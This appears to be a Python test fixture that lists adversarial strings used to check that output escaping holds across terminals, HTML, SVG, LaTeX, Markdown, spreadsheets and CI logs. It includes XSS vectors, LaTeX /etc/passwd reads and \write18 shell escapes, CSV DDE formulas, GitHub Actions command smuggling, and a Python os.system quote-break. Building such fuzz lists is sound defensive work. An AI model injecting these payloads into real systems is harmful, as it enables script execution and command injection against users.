"""Texts that act on something that reads them, where nobody stops them: terminals, pages, parsers, spreadsheets, CI."""

from __future__ import annotations

CONTROL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2Kgone", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;http://a.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]1337;File=name=x:eA==\x07", "\x1bP1$r\x1b\\", "\x1bc",
    "\x9b31mred", "\x9d0;title\x9c", "bell\x07", "back\b\b\bspace", "shift\x0eout\x0f", "del\x7f", "nul\x00byte",
    "next\x85line", "vertical\x0btab", "form\x0cfeed", "tab\there", "sub\x1a", "x\x1b[38;5;1mx",
)  # fmt: skip
LINES = (
    "a\nb", "a\r\nb", "b\r=cmd", "a\rb", "a\u2028b", "a\u2029b", "\n\n\nc", "trailing\n",
    "[2/2] OK x\n[9/9] OK y 100.00 %",
)  # fmt: skip
UNSEEN = (
    "\u202eevil", "\u202dx", "\u2066x\u2069", "\u2067x", "\u200fx", "\u061cx", "\u200bzero", "ze\u200cro", "ze\u200dro",
    "\ufeffbom", "so\u00adft", "\u2060word", "\U000e0041\U000e0042tag", "\ufff9a\ufffab\ufffb", "\u180ex",
    "half\ud800", "\udfffhalf", "\ud83d", "no\ufffe", "no\uffff", "no\ufdd0", "no\U0010ffff",
    "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 4, "e\u0301" + "\u0336" * 60, "\u3164", "\u2800",
)  # fmt: skip
MARKUP = (
    "[bold]x[/bold]", "[/]", "a[/b]", "[link=http://a.example]x[/link]", "\\[bold]", "[@click=app.bell]x[/]", ":smile:",
    "[red", "[[exclude]]",
)  # fmt: skip
HTML = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<!--", "-->", "<!-- --><b>x</b>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;",
    "<details open ontoggle=alert(1)>", "<base href=http://a.example>", "<meta http-equiv=refresh content=0>",
    "<form action=http://a.example><input>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=http://a.example>",
    "<template><s>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "`onload=alert(1)",
    "<x/onclick=alert(1)>", "</td></tr></table>", "<plaintext>", "__proto__", "constructor",
)  # fmt: skip
DRAWING = (
    ' id="x"', "url(#x)", 'href="#x"', 'xlink:href="http://a.example"', "font: 10px evil",
    "</text><script>alert(1)</script>",
    "</svg><script>alert(1)</script>", "</desc><script>1</script>", "$\\frac{1}{2}$", "$x", "_hidden", "#010203",
    "%(x)s %d",
)  # fmt: skip
XML = ("<![CDATA[x]]>", "]]>", "<!DOCTYPE x [<!ENTITY y 'z'>]>", "&y;", "<?xml version='1.0'?>", "<?php x ?>")
LATEX = (
    "\\input{/etc/passwd}", "\\immediate\\write18{rm}", "\\end{tabular}\\end{table}", "a & b & c", "a \\\\ b",
    "100 % off",
    "^^5cinput{x}", "\\catcode`\\%=12", "{", "}", "#1 ~ _ ^", "ab2\u00a7=\u00a78yz", "\\verb|x|", "\\", "$a$ $$b$$",
)  # fmt: skip
MARKDOWN = (
    "# heading", "- item", "1. item", "> quote", "[x](http://a.example)", "![x](http://a.example/x.png)",
    "[x]: http://a.example",
    "```\nx\n```", "`", "``a`", "a | b | c", "---", "===", "*a* __b__ ~~c~~", "a@b.example", "mailto:a@b.example",
    "http://a.example/x", "_www.a.example", "@user", "#12", "[^1]", "<http://a.example>", "- [ ] task", "a  \nb\\",
    "[!WARNING]", "model@houses.csv@cpu",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1+1", "\r=1+1", "a;=1+1", "a,=1+1", 'a",=1+1', "a\n=1+1",
    "\uff1d1+1", '=HYPERLINK("http://a.example","x")', "'=1", '"', '""",', "-0.5", "1e999", "nan", ";;;",
)  # fmt: skip
COMMANDS = (
    "::error::x", "x\n::error::x", " ::set-output name=a::b", "::stop-commands::t", "x\r::add-mask::x", "##[error]x",
    "x ##[add-mask]y", "##vso[task.complete]x", "%0A::error::x", "::error file=a,line=1::x", "a" * 150 + "::warning::x",
)  # fmt: skip
CODE = (
    '"; import os; os.system("x") #', "'''", '"""', "{x}", "{{ 7*7 }}", "{% for x in y %}", "${x}", "`rm`", "$(rm)",
    "a:b\nc",
    "lambda: 0", "%s", "../../../x", "/etc/passwd", "C:\\x", "CON", "\\N{BULLET}", "\\u0041",
)  # fmt: skip
SIZES = ("w" * 5000, "x " * 1000, "a" * 300 + "<b>", " ", "\u4e2d\u6587", "\U0001f389", "\u0627\u0644", "0")

PAYLOADS = (
    *CONTROL, *LINES, *UNSEEN, *MARKUP, *HTML, *DRAWING, *XML, *LATEX, *MARKDOWN, *FORMULAS, *COMMANDS, *CODE, *SIZES,
)  # fmt: skip
